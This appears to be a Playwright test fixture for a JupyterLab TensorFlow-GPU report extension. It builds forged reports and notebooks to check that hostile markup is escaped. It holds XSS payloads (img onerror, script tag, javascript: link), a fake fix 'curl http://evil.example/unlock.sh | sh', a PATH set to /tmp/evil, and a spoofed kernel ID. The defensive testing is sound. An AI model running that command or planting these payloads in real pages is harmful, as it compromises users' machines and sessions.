import type { Page } from '@playwright/test';

import { REPORT, notebookWith } from './notebooks';

const MARK = 'tfgpu-tampered';
/** Marks the page wherever it is read as markup. */
const IMAGE = `<img src=x onerror="document.body.classList.add('${MARK}')">`;
const SCRIPT = `<script>document.body.classList.add('${MARK}')</script>`;
const LINK = '<a href="javascript:alert(1)">here</a>';

const title = 'Forged: your GPU is locked';
const command = 'curl http://evil.example/unlock.sh';

/** A report that somebody has written so that another opens it: markup, commands and fixes of its own. */
function forgedReport(kernelId: string): object {
  const fixes = [
    {
      title: `Unlock it ${IMAGE}`,
      commands: [`${command} | sh ${SCRIPT}`],
      where: 'terminal',
      automatic: true,
      sets: { PATH: '/tmp/evil' },
      unsets: [],
      repairs: null
    }
  ];
  const finding = {
    severity: 'error',
    framework: 'tensorflow',
    title: `${title} ${IMAGE}`,
    detail: `${SCRIPT} Click ${LINK} to unlock it.`,
    evidence: [IMAGE, SCRIPT, LINK],
    fixes
  };
  return {
    schema: 'tfgpu.report/1',
    kernel_id: kernelId,
    verdict: 'broken',
    summary: SCRIPT,
    framework: { name: 'tensorflow', version: IMAGE },
    environment: { name: `tf2 ${IMAGE}`, prefix: SCRIPT },
    simulated: false,
    findings: [
      { ...finding, code: 'gpu-hidden' },
      { ...finding, code: 'made-up' }
    ]
  };
}

const escape = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

function bundleOf(kernelId: string, html: string): Record<string, unknown> {
  return {
    [REPORT]: forgedReport(kernelId),
    'text/html': html,
    'text/plain': `✖ ${title}`
  };
}

/** As a kernel escapes it. */
const PLAIN = `<div><b>${title} ${escape(IMAGE)}</b></div>`;

/**
 * A notebook whose only output is such a report. Where nobody trusts it, its HTML is not even escaped;
 * where somebody does, HTML of it is run by JupyterLab itself, and is not what a report is shown as.
 */
export function forgedNotebook(trusted: boolean): object {
  const notebook = notebookWith(['model.fit(x, y)']) as {
    cells: Record<string, unknown>[];
  };
  const html = trusted ? PLAIN : `${PLAIN}${IMAGE}${SCRIPT}${LINK}`;
  const ended = '01234567-89ab-cdef-0123-456789abcdef';
  Object.assign(notebook.cells[0]!, {
    metadata: trusted ? { trusted } : {},
    execution_count: 1,
    outputs: [
      { output_type: 'display_data', metadata: {}, data: bundleOf(ended, html) }
    ]
  });
  return notebook;
}

/** A cell that publishes such a report in the name of the kernel that it runs in. */
const cell = [
  'import json, re',
  'from ipykernel.connect import get_connection_file',
  'from IPython.display import display',
  'kernel = re.search(r"kernel-(.*)\\.json", get_connection_file()).group(1)',
  `bundle = json.loads(r'''${JSON.stringify(bundleOf('KERNEL', PLAIN))}''')`,
  `bundle["${REPORT}"]["kernel_id"] = kernel`,
  'display(bundle, raw=True)'
].join('\n');

export const FORGED = { title, command, cell };

/** What of a forged report was run, or has become markup (an image in HTML is JupyterLab's to allow). */
export function tampered(page: Page): Promise<string[]> {
  return page.evaluate(mark => {
    const output = '.jp-OutputArea-output';
    const found = [
      '.jp-tfgpu-Output img',
      `${output} script`,
      `${output} iframe`,
      `${output} [onerror]`,
      `${output} a[href^="javascript"]`
    ].filter(each => document.querySelector(each) !== null);
    return document.body.classList.contains(mark) ? [...found, 'run'] : found;
  }, MARK);
}
